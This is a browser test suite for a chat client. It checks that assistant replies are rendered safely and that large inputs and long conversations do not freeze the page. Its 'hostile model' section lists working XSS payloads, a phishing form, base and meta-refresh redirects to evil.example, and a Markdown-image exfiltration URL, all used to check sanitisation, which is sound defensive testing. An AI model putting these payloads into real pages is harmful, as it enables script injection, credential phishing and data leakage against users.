// What a model says that means harm, and what is too much.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { startServer } from '../clients/node/server.js';
import { fine, replies, say, says, startBrowser } from './browser.js';

/** The words of an honest end. */
const END = 'so much for that';

let server;
let browser;

before(async () => {
  server = await startServer();
  browser = await startBrowser();
});

after(async () => {
  await browser.stop();
  await server.stop();
});

/** Has the model say this. */
async function hear(page, text) {
  await say(page, `Say exactly ${text} please`);
  await page.waitForFunction(() => document.querySelector('.message.assistant') && document.getElementById('stop').hidden);
}

/** Asks the server itself. */
async function call(path, body) {
  const answer = await fetch(`${server.base}${path}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  assert.equal(answer.status, 200);
  return answer.json();
}

/** What a conversation with this reply looks like. */
async function shown(text) {
  const page = await browser.open(server.base);
  await page.evaluate(() => (window.harmed = 0));
  await hear(page, `${text}\n\n${END}`);
  await says(page, END);
  return page;
}

describe('a hostile model', () => {
  const harm = [
    '<script>window.harmed = 1</script>',
    '<img src=x onerror="window.harmed = 1">',
    '<svg onload="window.harmed = 1"><circle r=9></svg>',
    '<iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>',
    '<a href="javascript:window.harmed = 1">here</a>',
    '[here](javascript:window.harmed=1)',
    '[here](  JaVaScRiPt:window.harmed=1)',
    '[here](data:text/html,<script>parent.harmed=1</script>)',
    '[here](vbscript:harm)',
    '![x](x" onerror="window.harmed=1)',
    '```html" onmouseover="window.harmed=1\n<b>\n```',
    '<style>* { display: none }</style>',
    '<form action="https://evil.example"><input name=key><button>Sign in</button></form>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=window.harmed=1>',
    '<div style="position:fixed;inset:0">over everything</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  ];

  test('runs nothing, loads nothing, and draws nothing over the page', async () => {
    for (const text of harm) {
      const page = await shown(text);
      const body = replies(page).last();
      for (const link of await body.locator('a').all()) {
        await link.click({ modifiers: ['Alt'], trial: true });
        assert.match((await link.getAttribute('href')) ?? '', /^$|^https?:|^mailto:/, text);
      }
      const found = await body.evaluate((element) => ({
        bad: element.querySelectorAll('script, img, svg, iframe, style, form, base, meta, object, embed, math').length,
        events: [...element.querySelectorAll('*')].flatMap((one) => [...one.attributes]).filter((one) => /^on|^style$/i.test(one.name)).length,
      }));
      assert.deepEqual(found, { bad: 0, events: 0 }, text);
      assert.equal(await page.evaluate(() => window.harmed), 0, text);
      fine(page);
      await page.context().close();
    }
  });

  test('tells nobody else who reads: images are links, and others are not asked', async () => {
    const page = await browser.open(server.base);
    const others = [];
    page.on('request', (request) => request.url().startsWith(server.base) || /^(data|blob):/.test(request.url()) || others.push(request.url()));
    await hear(page, `![secret](https://evil.example/?text=secret)\n\n${END}`);
    await says(page, END);
    assert.equal(await replies(page).last().locator('a').getAttribute('href'), 'https://evil.example/?text=secret');
    assert.deepEqual(others, []);
    fine(page);
  });

  test('shows Markdown: tables, lists, highlighted code, and a fence that is never closed', async () => {
    const page = await shown('# Head\n\n1. one\n\n   more\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~~rust\nfn main() { let x = "y"; }\n~~~\n\n**bold** `code`');
    const body = replies(page).last();
    assert.deepEqual(await body.evaluate((one) => ['h1', 'ol > li', 'td', 'strong', '.hljs-keyword'].map((name) => one.querySelectorAll(name).length)), [1, 2, 2, 1, 2]);
    const open = await browser.open(server.base);
    await hear(open, 'Look:\n```js\nconst a = 1;\n<b>never closed</b>');
    await says(open, 'never closed');
    assert.equal(await replies(open).last().locator('.code code').innerText(), 'const a = 1;\n<b>never closed</b>');
    fine(page);
    fine(open);
  });

  for (const [what, text] of [
    ['a megabyte of Markdown', '**word** `code` [link](https://a.example) '.repeat(40).concat('\n\n').repeat(620)],
    ['a megabyte in one line', '*_[`<'.repeat(210_000)],
    ['a megabyte in a fence that is never closed', '```js\n' + 'let a = "b"; // c\n'.repeat(58_000)],
    ['a megabyte of a list', '- one **two** three\n'.repeat(52_000)],
  ]) {
    test(`does not make the page stand still with ${what}`, async () => {
      const page = await browser.open(server.base);
      await page.evaluate(() => {
        window.longest = 0;
        let last = performance.now();
        const look = () => {
          const now = performance.now();
          [window.longest, last] = [Math.max(window.longest, now - last), now];
          setTimeout(look, 10);
        };
        look();
      });
      assert.ok(text.length > 1_000_000);
      const { id } = await call('/v1/conversations', {});
      await page.goto(`/#${id}`);
      const input = `${text}\n${END}`;
      await call('/v1/responses', { model: 'echo', conversation: id, input });
      // It takes its time, and the page does not stand still meanwhile.
      await says(page, END, 90_000);
      const longest = await page.evaluate(() => window.longest);
      // (Half a second where nothing else runs; on a machine that has much to do, several times as long.)
      assert.ok(longest < 8000, `the page stood still for ${longest} ms`);
      await page.locator('#text').fill('still here');
      fine(page);
      await page.context().close();
    });
  }

  test('of ten thousand messages shows the last at once, and the others when they are looked for', async () => {
    const { id } = await call('/v1/conversations', {});
    for (let first = 0; first < 10_000; first += 20) {
      const items = Array.from({ length: 20 }, (_, place) => ({ type: 'message', role: place % 2 ? 'assistant' : 'user', content: `message ${first + place}` }));
      await call(`/v1/conversations/${id}/items`, { items });
    }
    const page = await browser.open(server.base, { path: '/page/icon.svg' });
    const begun = Date.now();
    await page.goto(`/#${id}`);
    await page.locator('.message', { hasText: 'message 9999' }).waitFor();
    const took = Date.now() - begun;
    assert.ok(took < 3000, `${took} ms`);
    assert.ok(await page.locator('.message', { hasText: 'message 9999' }).isVisible());
    for (let wanted = 9800; wanted >= 9000; wanted -= 400) {
      await page.locator('#log').evaluate((log) => (log.scrollTop = 0));
      await page.waitForFunction((text) => {
        document.getElementById('log').scrollTop = 0;
        return [...document.querySelectorAll('.message')].some((one) => one.textContent.startsWith(text));
      }, `message ${wanted}`);
    }
    await say(page, 'Say 3 words.');
    await says(page, 'wörd003');
    fine(page);
  });
});
